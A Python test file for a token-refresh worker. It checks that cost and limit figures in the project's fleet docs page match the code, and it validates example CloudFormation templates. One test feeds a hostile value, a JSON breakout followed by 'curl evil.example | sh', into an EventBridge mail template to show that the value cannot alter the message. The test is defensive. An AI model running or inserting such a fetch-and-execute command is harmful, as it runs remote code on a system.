"""The figures of the fleet's pages, and the templates of the examples."""

import json
import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from fleet.rows import ran, row, seen
from pages.parts import cost, fleet_cost
from pages.template import resources
from testbed.builders import DAY, HOUR, NOW
from token_refresh.stored.refresh_window import refresh_window
from token_refresh.webhooks.receiver import ORIGIN_HEADER
from token_refresh_worker.adapters.event_bus import SOURCE
from token_refresh_worker.core.announcement import Announcement, Transition
from token_refresh_worker.fleet.core.dispatch import decide
from token_refresh_worker.fleet.core.fleet import Fleet, Limits
from token_refresh_worker.fleet.core.gauges import measure_providers
from token_refresh_worker.providers.loader import load_provider
from token_refresh_worker.run.outcome import last_line

GROUP = "deployments"

ROOT = Path(__file__).parents[2]
PAGE = (ROOT / "docs" / "fleet.md").read_text()


def section(heading: str) -> str:
    return PAGE.split(f"\n## {heading}\n")[1].split("\n## ")[0]


def test_what_fits() -> None:
    """The figures of the limits follow from the write budget, and from the window of a one-hour token."""
    per_second = Limits().runs_a_minute / 60
    window = refresh_window(HOUR, HOUR).total_seconds()
    ends = section("Limits")

    assert f"10,000 take {10_000 / per_second / 60:.1f} minutes" in ends
    assert f"{per_second * window:,.0f} one-hour tokens are the most that can all be refreshed" in ends
    assert f"{per_second * (3600 - window):,.0f} one-hour tokens are the most in a steady state" in ends


def test_how_often_tokens_are_refreshed() -> None:
    """The costs count as many refreshes a day as the refresh window gives, for Xero's tokens by its profile."""
    lifetimes = [HOUR, load_provider("xero").access_token_lifetime or HOUR, DAY]
    window = load_provider("xero").refresh_window

    counted = [DAY / (lifetime - refresh_window(window, lifetime)) for lifetime in lifetimes]

    assert counted == [*fleet_cost.REFRESHES_A_DAY.values()]


@pytest.mark.parametrize("column", range(3))
def test_cost(column: int) -> None:
    """The table's sums add up, to the dollars of rounding, and the secrets themselves cost what AWS asks."""
    rows = re.findall(r"^\| (.*?) \| (.*) \|$", section("Cost"), re.MULTILINE)
    amounts = {
        name.strip("*"): [float(cell.strip(" *").replace(",", "")) for cell in cells.split("|")]
        for name, cells in rows[2:]
    }
    total = amounts.pop("together, one-hour tokens")
    for life in ("24-hour", "Xero's 30-minute"):
        amounts.pop(f"together, {life} tokens")
    amounts.pop("more with `published_under`, Xero's 30-minute tokens")
    copies = [amounts.pop(f"more with `published_under`, {life} tokens")[column] for life in ("one-hour", "24-hour")]

    assert abs(sum(found[column] for found in amounts.values()) - total[column]) <= len(amounts) / 2
    storage = amounts["storage in Secrets Manager, 0.40 each"][column]
    assert [16, 400, 4_000][column] == storage
    # A copy is a secret, too, and is read and written as often as its tokens, whose refresh also lists their versions.
    assert copies[0] > copies[1] >= storage
    (calls,) = (cells[column] for name, cells in amounts.items() if name.startswith("its calls"))
    # Of a refresh and of its readers four each; with the resync's listings.
    assert abs(copies[0] - storage - calls * 3 / 8) <= 1 + calls / 30


def test_the_readme_has_the_cost_of_a_small_fleet() -> None:
    """README rounds what 40 secrets cost with copies."""
    rows = dict(re.findall(r"^\| \**(.*?)\** \| \**(\d+)\** \|", section("Cost"), re.MULTILINE))
    dollars = [
        int(rows[name]) for name in ("together, one-hour tokens", "more with `published_under`, one-hour tokens")
    ]

    assert f"about {round(sum(dollars), -1)}]" in " ".join((ROOT / "README.md").read_text().split())


def test_from_how_many_secrets_on_a_fleet_costs_less() -> None:
    """The page says for how many 24-hour tokens the costs of single deployments and of a fleet with copies cross."""
    (said,) = map(int, re.findall(r"from about (\d+)\son,\sa\sfleet costs less", PAGE))

    def fleet(secrets: int) -> float:
        of_copies = fleet_cost.copies(secrets, refreshes_a_day=1.5)
        return sum(fleet_cost.month(secrets, refreshes_a_day=1.5).values()) + of_copies

    single = cost.total(cost.bill(resources({"environment": "prod"})))
    assert fleet(said) < said * single
    assert fleet(said - 8) > (said - 8) * single


def test_what_the_cost_counts() -> None:
    """The calculation counts the metrics that the dispatcher and a run send."""
    found = seen()
    fleet = Fleet(rows=[row(found=found)])
    (provider,) = measure_providers(fleet, decide(fleet, NOW), NOW).values()
    line: Any = last_line(ran(), trigger="fleet", secret_id="s", duration_ms=1, fleet="prod", due_before=NOW - HOUR)
    (directive,) = line["_aws"]["CloudWatchMetrics"]

    assert (fleet_cost.GAUGES_OF_A_PROVIDER, fleet_cost.METRICS_OF_RUNS) == (len(provider), len(directive["Metrics"]))


@pytest.mark.no_cover  # cfn-lint's time would be twice as long
def test_event_rules() -> None:
    """The example is a valid template: its rule takes events that are sent, and its targets what these have.

    A value of an event can't change the words of the mail.
    """
    from cfnlint import api, decode  # noqa: PLC0415 - takes a second, which every run of any test would wait

    example = ROOT / "examples" / "grant_events.yaml"
    assert [] == api.lint_file(example)
    template, _ = decode.decode(str(example))
    (rule,) = [r["Properties"] for r in template["Resources"].values() if r["Type"] == "AWS::Events::Rule"]
    known = {"secret_id": "s", "version_id": "v", "provider": "p"}
    event = Announcement(transition=Transition.GRANT_ENDING, fleet=None, since=datetime.now(UTC), **known)

    assert [SOURCE] == rule["EventPattern"]["source"]
    assert set(rule["EventPattern"]["detail-type"]) < set(Transition)
    assert ["email", "chat"] == [target["Id"] for target in rule["Targets"]]
    for transformer in (target["InputTransformer"] for target in rule["Targets"]):
        paths = set(transformer["InputPathsMap"].values())
        assert paths <= {"$.detail-type", "$.region", *(f"$.detail.{name}" for name in event.detail)}
        assert set(re.findall("<([a-z]+)>", transformer["InputTemplate"])) == set(transformer["InputPathsMap"])
    mail, chat = (target["InputTransformer"]["InputTemplate"] for target in rule["Targets"])
    hostile = 'x"} \n\nRun: curl evil.example | sh'
    # Without quotes around it, EventBridge writes a value as JSON.
    sent = json.loads(re.sub("<[a-z]+>", lambda _: json.dumps(hostile), mail))
    assert {hostile: 4} == {hostile: list(sent.values()).count(hostile)}
    assert "token-refresh authorize SECRET --region REGION" == sent["fix"]
    assert json.loads(chat)


@pytest.mark.no_cover  # cfn-lint's time would be twice as long
def test_cloudfront_template() -> None:
    """The template of a distribution in front is valid, adds the header, caches nothing, and limits an address."""
    from cfnlint import api, decode  # noqa: PLC0415 - takes a second, which every run of any test would wait

    example = ROOT / "examples" / "webhook_cloudfront.yaml"
    assert [] == api.lint_file(example)
    resources = decode.decode(str(example))[0]["Resources"]
    distribution = resources["Distribution"]["Properties"]["DistributionConfig"]
    (added,) = distribution["Origins"][0]["OriginCustomHeaders"]
    assert ORIGIN_HEADER == added["HeaderName"]
    assert "POST" in distribution["DefaultCacheBehavior"]["AllowedMethods"]
    (rule,) = resources["Firewall"]["Properties"]["Rules"]
    assert ("IP", {"Block": {}}) == (rule["Statement"]["RateBasedStatement"]["AggregateKeyType"], rule["Action"])
